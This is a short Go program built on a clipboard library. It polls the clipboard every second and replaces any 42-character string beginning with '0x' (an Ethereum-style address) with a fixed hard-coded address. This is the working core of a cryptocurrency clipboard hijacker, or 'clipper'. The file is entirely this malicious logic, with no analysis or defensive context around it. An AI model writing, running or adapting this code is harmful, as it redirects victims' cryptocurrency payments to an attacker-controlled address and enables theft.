package main

import (
	"fmt"
	"strings"
	"time"

	"github.com/atotto/clipboard"
)

func main() {
	count := 0
	for {
		text, _ := clipboard.ReadAll()
		if strings.HasPrefix(text, "0x") && len(text) == 42 {
			clipboard.WriteAll("0x00000000000000000000000000000000000000aa")
		}
		count++
		fmt.Println(count)
		time.Sleep(time.Second)
	}
}
